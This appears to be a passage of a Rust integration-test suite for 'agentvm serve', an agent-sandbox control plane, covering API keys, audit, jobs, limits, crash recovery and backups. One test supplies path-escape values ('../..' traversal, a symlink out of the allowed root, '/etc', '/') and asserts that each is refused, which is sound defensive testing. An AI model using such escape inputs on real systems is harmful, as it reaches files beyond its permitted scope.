//! The control plane, end to end: the real `agentvm serve` on loopback.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use reqwest::blocking::Client;
use serde_json::{json, Value};

use crate::common::*;

pub struct Server {
    child: Option<Child>,
    pub url: String,
    pub data: PathBuf,
    pub key: String,
    pub http: Client,
}

impl Server {
    /// Start `agentvm serve` on an ephemeral loopback port.
    pub fn start(data: &Path, extra: &[&str]) -> Server {
        let mut child = Command::new(agentvm_path())
            .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
            .arg(data)
            .args(extra)
            .env("AGENTVM_LOG", "warn")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("starting the server: {e}"));
        let err = child.stderr.take().unwrap_or_else(|| panic!("no stderr"));
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(err).lines().map_while(Result::ok) {
                if let Some(u) = line.strip_prefix("agentvm: listening on ") {
                    let _ = tx.send(u.to_string());
                }
            }
        });
        let url = rx
            .recv_timeout(Duration::from_secs(30))
            .unwrap_or_else(|_| panic!("the server did not start: {:?}", child.try_wait()));
        let key = std::fs::read_to_string(data.join("admin.key"))
            .unwrap_or_default()
            .trim()
            .to_string();
        let http = Client::builder()
            .timeout(Duration::from_secs(60))
            .build()
            .unwrap_or_else(|e| panic!("{e}"));
        Server {
            child: Some(child),
            url,
            data: data.to_path_buf(),
            key,
            http,
        }
    }

    pub fn req(
        &self,
        method: &str,
        path: &str,
        key: Option<&str>,
        body: Option<Value>,
    ) -> (u16, reqwest::header::HeaderMap, String) {
        let m = reqwest::Method::from_bytes(method.as_bytes()).unwrap_or(reqwest::Method::GET);
        let mut r = self.http.request(m, format!("{}{path}", self.url));
        if let Some(k) = key {
            r = r.header("X-API-Key", k);
        }
        if let Some(b) = body {
            r = r
                .header("content-type", "application/json")
                .body(b.to_string());
        }
        let resp = r.send().unwrap_or_else(|e| panic!("{method} {path}: {e}"));
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        (status, headers, resp.text().unwrap_or_default())
    }

    pub fn json(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let (s, _, t) = self.req(method, path, Some(&self.key.clone()), body);
        (s, serde_json::from_str(&t).unwrap_or(Value::Null))
    }

    /// Poll a job until it has ended.
    pub fn wait(&self, id: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let (_, j) = self.json("GET", &format!("/v1/jobs/{id}"), None);
            let st = j["status"].as_str().unwrap_or("");
            if !matches!(st, "queued" | "running") || Instant::now() > deadline {
                return j;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Submit a job (POST /v1/jobs with `body`) and wait until it ends:
    /// its id and its final record.
    pub fn run_job(&self, body: Value) -> (String, Value) {
        let (_, j) = self.json("POST", "/v1/jobs", Some(body));
        let id = j["id"].as_str().unwrap_or("").to_string();
        let done = self.wait(&id);
        (id, done)
    }

    /// GET `path` with the admin key: the body as text.
    pub fn text(&self, path: &str) -> String {
        self.req("GET", path, Some(&self.key.clone()), None).2
    }

    /// Poll until the job is running (or has ended).
    pub fn wait_running(&self, id: &str) {
        let deadline = Instant::now() + Duration::from_secs(30);
        while Instant::now() < deadline {
            let (_, j) = self.json("GET", &format!("/v1/jobs/{id}"), None);
            if j["status"] != "queued" {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    pub fn pid(&self) -> u32 {
        self.child.as_ref().map(|c| c.id()).unwrap_or(0)
    }

    pub fn signal(&mut self, sig: i32) {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(self.pid() as i32, sig) };
    }

    /// Wait for the server process to exit.
    pub fn wait_exit(&mut self, within: Duration) -> Option<std::process::ExitStatus> {
        let deadline = Instant::now() + within;
        let c = self.child.as_mut()?;
        loop {
            if let Ok(Some(s)) = c.try_wait() {
                self.child = None;
                return Some(s);
            }
            if Instant::now() > deadline {
                return None;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// A data dir, an allowed root with a repo in it, and a running server.
pub fn setup(extra: &[&str]) -> (tempfile::TempDir, PathBuf, Server) {
    let t = tempdir();
    let root = t.path().join("root");
    std::fs::create_dir_all(&root).unwrap_or_else(|e| panic!("{e}"));
    let repo = fixture_repo(Who::Me);
    let r = root.join("repo");
    let c = sh(
        t.path(),
        &format!("cp -R {}/. {}", repo.path().display(), r.display()),
    );
    assert!(c.status.success());
    let root_s = root.to_string_lossy().into_owned();
    let mut args = vec!["--allowed-root", &root_s];
    args.extend_from_slice(extra);
    let s = Server::start(&t.path().join("data"), &args);
    (t, r, s)
}

pub fn shell(repo: &Path, prompt: &str) -> Value {
    json!({"agent": "shell", "prompt": prompt, "repo_path": repo.to_string_lossy(), "timeout": 30})
}

#[test]
fn first_start_makes_a_private_admin_key() {
    let (_t, _r, s) = setup(&[]);
    use std::os::unix::fs::PermissionsExt;
    let md = std::fs::metadata(s.data.join("admin.key")).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(md.permissions().mode() & 0o777, 0o600);
    assert!(s.key.starts_with("avm_"));
    // the database holds only its hash
    let db = std::fs::read(s.data.join("agentvm.db")).unwrap_or_default();
    let wal = std::fs::read(s.data.join("agentvm.db-wal")).unwrap_or_default();
    let needle = s.key.as_bytes();
    for blob in [&db, &wal] {
        assert!(
            !blob.windows(needle.len()).any(|w| w == needle),
            "the key's secret is stored"
        );
    }
}

#[test]
fn health_needs_no_key() {
    let (_t, _r, s) = setup(&[]);
    let (code, h, body) = s.req("GET", "/health", None, None);
    assert_eq!(code, 200);
    let v: Value = serde_json::from_str(&body).unwrap_or_default();
    assert_eq!(v["status"], "healthy");
    assert_eq!(v["service"], "agentvm");
    assert_eq!(
        h.get("x-content-type-options").map(|v| v.as_bytes()),
        Some(&b"nosniff"[..])
    );
    assert!(h.get("x-request-id").is_some());
}

#[test]
fn agent_run_answers_exactly_the_old_keys() {
    let (_t, repo, s) = setup(&[]);
    let keys = |v: &Value| {
        let mut k: Vec<String> = v
            .as_object()
            .map(|o| o.keys().cloned().collect())
            .unwrap_or_default();
        k.sort();
        k
    };
    let want = vec!["error", "returncode", "stderr", "stdout", "success"];
    let (code, v) = s.json(
        "POST",
        "/agent/run",
        Some(shell(&repo, "echo out; echo err >&2")),
    );
    assert_eq!(code, 200, "{v}");
    assert_eq!(keys(&v), want);
    assert_eq!(v["success"], true);
    assert_eq!(v["stdout"], "out\n");
    assert_eq!(v["stderr"], "err\n");
    assert_eq!(v["returncode"], 0);
    assert_eq!(v["error"], Value::Null);
    // failure
    let (code, v) = s.json("POST", "/agent/run", Some(shell(&repo, "exit 3")));
    assert_eq!(code, 200);
    assert_eq!(keys(&v), want);
    assert_eq!(v["success"], false);
    assert_eq!(v["returncode"], 3);
    // timeout: 200, success false, an error saying so
    let mut b = shell(&repo, "sleep 10");
    b["timeout"] = json!(1);
    let (code, v) = s.json("POST", "/agent/run", Some(b));
    assert_eq!(code, 200);
    assert_eq!(keys(&v), want);
    assert_eq!(v["success"], false);
    assert!(
        v["error"].as_str().unwrap_or("").contains("timed out"),
        "{v}"
    );
    // the prompt is one argument, never a shell string of ours: quotes survive
    let (_, v) = s.json(
        "POST",
        "/agent/run",
        Some(shell(
            &repo,
            "printf '%s\\n' \"a'b\" '$HOME' \"$(echo sub)\"",
        )),
    );
    assert_eq!(v["stdout"], "a'b\n$HOME\nsub\n");
    // the host repo is untouched
    assert!(repo.join("b.txt").exists());
}

#[test]
fn compat_errors_have_the_old_shapes() {
    let (_t, repo, s) = setup(&[]);
    // 401 missing and invalid key
    for key in [None, Some("avm_not-a-real-key")] {
        let (code, _, body) = s.req("POST", "/agent/run", key, Some(shell(&repo, "true")));
        assert_eq!(code, 401);
        let v: Value = serde_json::from_str(&body).unwrap_or_default();
        assert!(v["detail"].is_string(), "{body}");
    }
    // 400 unknown agent, listing the valid ones
    let mut b = shell(&repo, "true");
    b["agent"] = json!("gpt-overlord");
    let (code, v) = s.json("POST", "/agent/run", Some(b));
    assert_eq!(code, 400);
    let d = v["detail"].as_str().unwrap_or("");
    for a in ["aider", "opencode", "claude", "codex", "shell"] {
        assert!(d.contains(a), "{d}");
    }
    // 422 naming the field
    for (body, field) in [
        (
            json!({"agent": "shell", "prompt": "x", "repo_path": repo.to_string_lossy(), "timeout": 0}),
            "timeout",
        ),
        (
            json!({"agent": "shell", "prompt": "x", "repo_path": repo.to_string_lossy(), "timeout": 3601}),
            "timeout",
        ),
        (
            json!({"agent": "shell", "prompt": "x", "repo_path": repo.to_string_lossy(), "timeout": "soon"}),
            "timeout",
        ),
        (json!({"agent": "shell", "repo_path": "/x"}), "prompt"),
        (
            json!({"agent": "shell", "prompt": "", "repo_path": repo.to_string_lossy()}),
            "prompt",
        ),
        (
            json!({"agent": "shell", "prompt": "x", "repo_path": "relative/path"}),
            "repo_path",
        ),
        (
            json!({"agent": "shell", "prompt": "x", "repo_path": repo.to_string_lossy(), "extra_args": "notalist"}),
            "extra_args",
        ),
    ] {
        let (code, v) = s.json("POST", "/agent/run", Some(body.clone()));
        assert_eq!(code, 422, "{body} -> {v}");
        let loc = v["detail"][0]["loc"].to_string();
        assert!(loc.contains(field), "{body}: {v}");
    }
    // malformed JSON
    let (code, _, _) = s.req("POST", "/agent/run", Some(&s.key), None);
    assert_eq!(code, 422);
}

#[test]
fn repo_path_escapes_are_refused_and_nothing_runs() {
    let (t, repo, s) = setup(&[]);
    let outside = t.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap_or_else(|e| panic!("{e}"));
    let link = repo.parent().unwrap_or(&repo).join("link-out");
    std::os::unix::fs::symlink(&outside, &link).unwrap_or_else(|e| panic!("{e}"));
    let dotdot = format!("{}/../../outside", repo.display());
    let cases = [
        dotdot.as_str(),
        link.to_str().unwrap_or(""),
        "/etc",
        "/",
        outside.to_str().unwrap_or(""),
    ];
    for p in cases {
        let marker = outside.join("ran");
        let body = json!({"agent": "shell", "prompt": format!("touch {}", marker.display()), "repo_path": p});
        let (code, v) = s.json("POST", "/v1/jobs", Some(body));
        assert_eq!(code, 403, "{p}: {v}");
        assert!(!marker.exists());
    }
    let (_, page) = s.json("GET", "/v1/jobs", None);
    assert_eq!(
        page["jobs"].as_array().map(|a| a.len()),
        Some(0),
        "a refused job was stored"
    );
}

#[test]
fn no_allowed_roots_means_a_clear_refusal() {
    let t = tempdir();
    let s = Server::start(&t.path().join("data"), &[]);
    let (code, v) = s.json(
        "POST",
        "/v1/jobs",
        Some(json!({"agent": "shell", "prompt": "true", "repo_path": "/tmp"})),
    );
    assert_eq!(code, 403);
    assert!(
        v["detail"]
            .as_str()
            .unwrap_or("")
            .contains("--allowed-root"),
        "{v}"
    );
}

#[test]
fn jobs_lifecycle_logs_patch_cancel_delete() {
    let (_t, repo, s) = setup(&[]);
    let (code, h, body) = s.req(
        "POST",
        "/v1/jobs",
        Some(&s.key),
        Some(shell(&repo, "echo hi; echo changed >> a.txt")),
    );
    assert_eq!(code, 202, "{body}");
    let job: Value = serde_json::from_str(&body).unwrap_or_default();
    let id = job["id"].as_str().unwrap_or("").to_string();
    assert_eq!(
        h.get("location").and_then(|v| v.to_str().ok()),
        Some(format!("/v1/jobs/{id}").as_str())
    );
    let done = s.wait(&id);
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["result"]["changed_files"], json!(["a.txt"]));
    let (code, _, logs) = s.req("GET", &format!("/v1/jobs/{id}/logs"), Some(&s.key), None);
    assert_eq!((code, logs.as_str()), (200, "hi\n"));
    let (code, _, patch) = s.req("GET", &format!("/v1/jobs/{id}/patch"), Some(&s.key), None);
    assert_eq!(code, 200);
    assert!(patch.contains("+changed"), "{patch}");
    // list, filtered and paged
    for i in 0..3 {
        let (c, _) = s.json("POST", "/v1/jobs", Some(shell(&repo, &format!("echo {i}"))));
        assert_eq!(c, 202);
    }
    let (_, p1) = s.json("GET", "/v1/jobs?limit=2&agent=shell", None);
    assert_eq!(p1["jobs"].as_array().map(|a| a.len()), Some(2));
    let cur = p1["next_cursor"].as_str().unwrap_or("").to_string();
    let (_, p2) = s.json("GET", &format!("/v1/jobs?limit=2&cursor={cur}"), None);
    assert_eq!(p2["jobs"].as_array().map(|a| a.len()), Some(2));
    assert_eq!(p2["next_cursor"], Value::Null);
    let (code, _) = s.json("GET", "/v1/jobs?status=bogus", None);
    assert_eq!(code, 422);
    let (code, _) = s.json("GET", "/v1/jobs?limit=0", None);
    assert_eq!(code, 422);
    // cancel a running job
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "echo begin; sleep 30")),
    );
    let jid = j["id"].as_str().unwrap_or("").to_string();
    let deadline = Instant::now() + Duration::from_secs(20);
    while s.json("GET", &format!("/v1/jobs/{jid}"), None).1["status"] != "running"
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    let (code, _) = s.json("DELETE", &format!("/v1/jobs/{jid}"), None);
    assert_eq!(code, 409, "a running job was deleted");
    let (code, _) = s.json("POST", &format!("/v1/jobs/{jid}/cancel"), None);
    assert_eq!(code, 202);
    let ended = s.wait(&jid);
    assert_eq!(ended["status"], "cancelled", "{ended}");
    let (code, _) = s.json("POST", &format!("/v1/jobs/{jid}/cancel"), None);
    assert_eq!(code, 409);
    // delete
    let (code, _) = s.json("DELETE", &format!("/v1/jobs/{jid}"), None);
    assert_eq!(code, 204);
    let (code, _) = s.json("GET", &format!("/v1/jobs/{jid}"), None);
    assert_eq!(code, 404);
    let (code, _) = s.json("GET", "/v1/jobs/job_nope/patch", None);
    assert_eq!(code, 404);
}

/// Read server-sent events until `end`: (id, event, data) triples.
fn sse(s: &Server, path: &str, last_id: Option<&str>) -> Vec<(String, String, String)> {
    sse_live(s, path, last_id).iter().collect()
}

/// Server-sent events as they arrive, until `end`: (id, event, data)
/// triples from a reader thread.
fn sse_live(
    s: &Server,
    path: &str,
    last_id: Option<&str>,
) -> std::sync::mpsc::Receiver<(String, String, String)> {
    let mut r = s
        .http
        .get(format!("{}{path}", s.url))
        .header("X-API-Key", &s.key);
    if let Some(l) = last_id {
        r = r.header("Last-Event-ID", l);
    }
    let resp = r.send().unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(resp.status().as_u16(), 200);
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let (mut id, mut ev, mut data) = (String::new(), String::new(), Vec::<String>::new());
        for line in BufReader::new(resp).lines().map_while(Result::ok) {
            if line.is_empty() {
                if !ev.is_empty() || !data.is_empty() {
                    let end = ev == "end";
                    if tx.send((id.clone(), ev.clone(), data.join("\n"))).is_err() || end {
                        break;
                    }
                }
                id.clear();
                ev.clear();
                data.clear();
            } else if let Some(v) = line.strip_prefix("id: ") {
                id = v.into();
            } else if let Some(v) = line.strip_prefix("event: ") {
                ev = v.into();
            } else if let Some(v) = line.strip_prefix("data: ") {
                data.push(v.into());
            } else if line == "data:" {
                data.push(String::new());
            }
        }
    });
    rx
}

#[test]
fn logs_follow_as_sse_and_resume() {
    let (_t, repo, s) = setup(&[]);
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(
            &repo,
            "for i in 1 2 3 4; do echo line$i; sleep 0.2; done",
        )),
    );
    let id = j["id"].as_str().unwrap_or("").to_string();
    let evs = sse(&s, &format!("/v1/jobs/{id}/logs?follow=true"), None);
    let text: String = evs
        .iter()
        .filter(|e| e.1 == "stdout")
        .map(|e| e.2.clone())
        .collect();
    assert_eq!(text, "line1\nline2\nline3\nline4\n", "{evs:?}");
    let end = evs.last().cloned().unwrap_or_default();
    assert_eq!(end.1, "end");
    assert!(end.2.contains("succeeded"));
    // resume after the second chunk: only what came after
    let second = evs
        .iter()
        .filter(|e| e.1 == "stdout")
        .nth(1)
        .map(|e| e.0.clone())
        .unwrap_or_default();
    let rest = sse(
        &s,
        &format!("/v1/jobs/{id}/logs?follow=true"),
        Some(&second),
    );
    let text: String = rest
        .iter()
        .filter(|e| e.1 == "stdout")
        .map(|e| e.2.clone())
        .collect();
    assert_eq!(text, "line3\nline4\n", "{rest:?}");
}

#[test]
fn keys_scopes_bearer_and_audit() {
    let (_t, repo, s) = setup(&[]);
    let mk = |scopes: Value| {
        let (code, v) = s.json(
            "POST",
            "/v1/keys",
            Some(json!({"name": "k", "scopes": scopes})),
        );
        assert_eq!(code, 201, "{v}");
        (
            v["id"].as_str().unwrap_or("").to_string(),
            v["key"].as_str().unwrap_or("").to_string(),
        )
    };
    let (read_id, read) = mk(json!(["read"]));
    let (_, run) = mk(json!(["run"]));
    // read may read, not run
    assert_eq!(s.req("GET", "/v1/jobs", Some(&read), None).0, 200);
    assert_eq!(
        s.req("POST", "/v1/jobs", Some(&read), Some(shell(&repo, "true")))
            .0,
        403
    );
    // run may run and read, not administer
    assert_eq!(
        s.req("POST", "/v1/jobs", Some(&run), Some(shell(&repo, "true")))
            .0,
        202
    );
    assert_eq!(s.req("GET", "/v1/keys", Some(&run), None).0, 403);
    assert_eq!(s.req("GET", "/v1/audit", Some(&run), None).0, 403);
    // Authorization: Bearer works too
    let code = s
        .http
        .get(format!("{}/v1/jobs", s.url))
        .header("Authorization", format!("Bearer {read}"))
        .send()
        .map(|r| r.status().as_u16())
        .unwrap_or(0);
    assert_eq!(code, 200);
    // secrets never listed
    let (_, keys) = s.json("GET", "/v1/keys", None);
    assert!(!keys.to_string().contains(&read));
    assert!(!keys.to_string().contains("avm_"));
    // bad key requests
    assert_eq!(
        s.json(
            "POST",
            "/v1/keys",
            Some(json!({"name": "x", "scopes": ["root"]}))
        )
        .0,
        422
    );
    assert_eq!(
        s.json(
            "POST",
            "/v1/keys",
            Some(json!({"name": "", "scopes": ["read"]}))
        )
        .0,
        422
    );
    assert_eq!(
        s.json("POST", "/v1/keys", Some(json!({"name": "x", "scopes": []})))
            .0,
        422
    );
    // revoke: the key stops working at once
    assert_eq!(
        s.json("DELETE", &format!("/v1/keys/{read_id}"), None).0,
        204
    );
    assert_eq!(s.req("GET", "/v1/jobs", Some(&read), None).0, 401);
    assert_eq!(
        s.json("DELETE", &format!("/v1/keys/{read_id}"), None).0,
        404
    );
    // the last admin key cannot be revoked
    let (_, keys) = s.json("GET", "/v1/keys", None);
    let admin_id = keys
        .as_array()
        .and_then(|a| a.iter().find(|k| k["source"] == "bootstrap"))
        .and_then(|k| k["id"].as_str())
        .unwrap_or("")
        .to_string();
    assert_eq!(
        s.json("DELETE", &format!("/v1/keys/{admin_id}"), None).0,
        409
    );
    // every mutation is in the audit trail, with client and outcome
    let (_, a) = s.json("GET", "/v1/audit?limit=200", None);
    let ev = a["events"].as_array().cloned().unwrap_or_default();
    let has = |action: &str, outcome: &str| {
        ev.iter().any(|e| {
            e["action"] == action && e["outcome"].as_str().unwrap_or("").starts_with(outcome)
        })
    };
    assert!(has("key.create", "ok"));
    assert!(has("key.revoke", "ok"));
    assert!(has("key.revoke", "rejected 409"));
    assert!(has("job.create", "accepted"));
    assert!(has("job.create", "denied 403"));
    assert!(ev.iter().all(|e| e["client"] == "127.0.0.1"));
    assert!(
        !a.to_string().contains("avm_"),
        "a secret reached the audit trail"
    );
}

#[test]
fn api_key_file_registers_an_admin_key_without_copying_it() {
    let t = tempdir();
    let kf = t.path().join("provisioned.key");
    std::fs::write(&kf, "avm_provisioned-by-a-secrets-manager-0123456789\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let kfs = kf.to_string_lossy().into_owned();
    let s = Server::start(&t.path().join("data"), &["--api-key-file", &kfs]);
    // the provisioned key counts as a key: no bootstrap key is made
    assert!(!s.data.join("admin.key").exists());
    let (code, _, _) = s.req(
        "GET",
        "/v1/keys",
        Some("avm_provisioned-by-a-secrets-manager-0123456789"),
        None,
    );
    assert_eq!(code, 200);
}

#[test]
fn limits_413_and_429() {
    let (_t, repo, s) = setup(&["--body-limit", "4k", "--rate-limit", "60"]);
    let big =
        json!({"agent": "shell", "prompt": "x".repeat(8000), "repo_path": repo.to_string_lossy()});
    let (code, _, _) = s.req("POST", "/v1/jobs", Some(&s.key), Some(big));
    assert_eq!(code, 413);
    // 60/min: a burst of 10, then 429 with Retry-After
    let mut limited = None;
    for _ in 0..30 {
        let (code, h, _) = s.req("GET", "/v1/jobs", Some(&s.key), None);
        if code == 429 {
            limited = h
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned);
            break;
        }
    }
    assert!(
        limited.is_some_and(|v| v.parse::<u64>().unwrap_or(0) >= 1),
        "no 429 with Retry-After"
    );
}

#[test]
fn queue_full_is_429_with_retry_after() {
    let (_t, repo, s) = setup(&["--max-concurrent", "1", "--max-queue", "2"]);
    // one running (the worker has taken it off the queue) ...
    let (code, first) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 5")));
    assert_eq!(code, 202);
    s.wait_running(first["id"].as_str().unwrap_or(""));
    // ... then two may wait, and the rest are refused
    let mut codes = Vec::new();
    let mut retry = None;
    for _ in 0..5 {
        let (code, h, _) = s.req(
            "POST",
            "/v1/jobs",
            Some(&s.key),
            Some(shell(&repo, "sleep 5")),
        );
        if code == 429 {
            retry = h
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned);
        }
        codes.push(code);
    }
    assert_eq!(
        codes,
        vec![202, 202, 429, 429, 429],
        "one running, two queued, then full"
    );
    assert!(retry.is_some());
}

#[test]
fn kill_9_mid_job_then_restart_loses_nothing() {
    let (t, repo, mut s) = setup(&["--max-concurrent", "1"]);
    let marker = format!("1000.{}", std::process::id());
    let (_, a) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, &format!("echo started; sleep {marker}"))),
    );
    let (_, b) = s.json("POST", "/v1/jobs", Some(shell(&repo, "echo second")));
    let (a, b) = (
        a["id"].as_str().unwrap_or("").to_string(),
        b["id"].as_str().unwrap_or("").to_string(),
    );
    // wait until the first one has produced output
    let deadline = Instant::now() + Duration::from_secs(20);
    while s
        .req(
            "GET",
            &format!("/v1/jobs/{a}/logs"),
            Some(&s.key.clone()),
            None,
        )
        .2
        != "started\n"
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    s.signal(libc::SIGKILL);
    assert!(s.wait_exit(Duration::from_secs(10)).is_some());
    // no sandbox process is left running
    let deadline = Instant::now() + Duration::from_secs(5);
    let alive = || {
        std::fs::read_dir("/proc")
            .into_iter()
            .flatten()
            .filter_map(|e| e.ok())
            .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
            .any(|c| String::from_utf8_lossy(&c).contains(&marker))
    };
    while alive() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(!alive(), "a sandbox process survived the server's kill -9");
    let root = repo
        .parent()
        .unwrap_or(&repo)
        .to_string_lossy()
        .into_owned();
    let s2 = Server::start(&t.path().join("data"), &["--allowed-root", &root]);
    let ja = s2.wait(&a);
    assert_eq!(ja["status"], "interrupted", "{ja}");
    assert_eq!(
        s2.req("GET", &format!("/v1/jobs/{a}/logs"), Some(&s2.key), None)
            .2,
        "started\n",
        "output so far kept"
    );
    let jb = s2.wait(&b);
    assert_eq!(
        jb["status"], "succeeded",
        "the queued job did not run after restart: {jb}"
    );
}

#[test]
fn sigterm_drains_gracefully() {
    let (t, repo, mut s) = setup(&["--shutdown-grace", "20s"]);
    let (_, short) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "sleep 1; echo finished")),
    );
    let id = short["id"].as_str().unwrap_or("").to_string();
    s.wait_running(&id);
    s.signal(libc::SIGTERM);
    let st = s.wait_exit(Duration::from_secs(30));
    assert!(st.is_some_and(|s| s.success()), "{st:?}");
    let root = repo
        .parent()
        .unwrap_or(&repo)
        .to_string_lossy()
        .into_owned();
    let s2 = Server::start(&t.path().join("data"), &["--allowed-root", &root]);
    let j = s2.wait(&id);
    assert_eq!(
        j["status"], "succeeded",
        "a job within the grace period was not allowed to finish: {j}"
    );

    // a job longer than the grace period is stopped and recorded interrupted
    let (_, long) = s2.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 60")));
    let lid = long["id"].as_str().unwrap_or("").to_string();
    drop(s2);
    let mut s3 = Server::start(
        &t.path().join("data"),
        &["--allowed-root", &root, "--shutdown-grace", "1s"],
    );
    let (_, long) = s3.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 60")));
    let lid3 = long["id"].as_str().unwrap_or("").to_string();
    s3.wait_running(&lid3);
    s3.signal(libc::SIGTERM);
    assert!(s3.wait_exit(Duration::from_secs(30)).is_some());
    let s4 = Server::start(&t.path().join("data"), &["--allowed-root", &root]);
    let j = s4.json("GET", &format!("/v1/jobs/{lid3}"), None).1;
    assert_eq!(j["status"], "interrupted", "{j}");
    let _ = lid;
}

#[test]
fn backup_and_restore_round_trip() {
    let (t, repo, mut s) = setup(&[]);
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "echo kept")));
    let id = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&id);
    let data = s.data.to_string_lossy().into_owned();
    let bk = t.path().join("backup.db");
    let bks = bk.to_string_lossy().into_owned();
    // online backup while the server runs
    let o = Command::new(agentvm_path())
        .args(["backup", &bks, "--data-dir", &data])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(o.status.success(), "{o:?}");
    // restore refuses while the server runs
    let o = Command::new(agentvm_path())
        .args(["restore", &bks, "--data-dir", &data])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!o.status.success());
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("stop the server first"),
        "{o:?}"
    );
    // a job deleted after the backup comes back with the restore
    assert_eq!(s.json("DELETE", &format!("/v1/jobs/{id}"), None).0, 204);
    s.signal(libc::SIGTERM);
    assert!(s.wait_exit(Duration::from_secs(30)).is_some());
    // garbage is refused and leaves the data alone
    let junk = t.path().join("junk.db");
    std::fs::write(&junk, "not a database").unwrap_or_else(|e| panic!("{e}"));
    let o = Command::new(agentvm_path())
        .args(["restore", junk.to_str().unwrap_or(""), "--data-dir", &data])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!o.status.success());
    let o = Command::new(agentvm_path())
        .args(["restore", &bks, "--data-dir", &data])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(o.status.success(), "{o:?}");
    let root = repo
        .parent()
        .unwrap_or(&repo)
        .to_string_lossy()
        .into_owned();
    let s2 = Server::start(&t.path().join("data"), &["--allowed-root", &root]);
    let (code, j) = s2.json("GET", &format!("/v1/jobs/{id}"), None);
    assert_eq!(code, 200, "{j}");
    assert_eq!(
        s2.req("GET", &format!("/v1/jobs/{id}/logs"), Some(&s2.key), None)
            .2,
        "kept\n"
    );
}

#[test]
fn openapi_docs_and_metrics() {
    let (_t, repo, s) = setup(&[]);
    let (code, _, body) = s.req("GET", "/openapi.json", None, None);
    assert_eq!(code, 200);
    let spec: Value = serde_json::from_str(&body).unwrap_or_default();
    assert!(spec["openapi"].as_str().unwrap_or("").starts_with("3.1"));
    for p in [
        "/health",
        "/agent/run",
        "/v1/jobs",
        "/v1/jobs/{id}",
        "/v1/jobs/{id}/logs",
        "/v1/jobs/{id}/patch",
        "/v1/jobs/{id}/cancel",
        "/v1/keys",
        "/v1/keys/{id}",
        "/v1/audit",
        "/metrics",
    ] {
        assert!(spec["paths"][p].is_object(), "{p} missing from the spec");
    }
    let (code, _, html) = s.req("GET", "/docs/", None, None);
    assert_eq!(code, 200);
    assert!(html.contains("swagger"), "{html}");
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    s.wait(j["id"].as_str().unwrap_or(""));
    assert_eq!(s.req("GET", "/metrics", None, None).0, 401);
    let (code, _, m) = s.req("GET", "/metrics", Some(&s.key), None);
    assert_eq!(code, 200);
    for needle in [
        "agentvm_jobs{state=\"succeeded\"} 1",
        "agentvm_queue_depth 0",
        "agentvm_sandbox_start_seconds_bucket",
        "agentvm_job_duration_seconds_count 1",
        "agentvm_http_requests_total{",
    ] {
        assert!(m.contains(needle), "{needle} missing:\n{m}");
    }
}

/// schemathesis (from PyPI) against our own /openapi.json: no 5xx, every
/// status code, content type, header and body as the spec says (a listed
/// skip where it is not installed).
#[test]
fn schemathesis_finds_no_server_error_or_spec_mismatch() {
    let st = ["st", "schemathesis"].into_iter().find(|b| {
        Command::new(b)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    });
    let Some(st) = st else {
        skip(
            "schemathesis against /openapi.json",
            "pip install schemathesis==4.32.5 (scripts/install-test-tools.sh does)",
        );
        return;
    };
    let (_t, _repo, s) = setup(&["--rate-limit", "0", "--max-queue", "100000"]);
    let out = Command::new(st)
        .args(["run", &format!("{}/openapi.json", s.url), "-H", &format!("X-API-Key: {}", s.key)])
        .args(["--checks", "not_a_server_error,status_code_conformance,content_type_conformance,response_schema_conformance,response_headers_conformance"])
        .args(["-n", "25", "--no-color", "--seed", "1"])
        .env("SCHEMATHESIS_TELEMETRY", "false")
        // it keeps a cache in its working directory: not in the source tree
        .current_dir(_t.path())
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "schemathesis failed:\n{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("passed"), "{text}");
}

#[test]
fn cli_client_submits_follows_and_reports_errors() {
    let (t, repo, s) = setup(&[]);
    let keyf = s.data.join("admin.key");
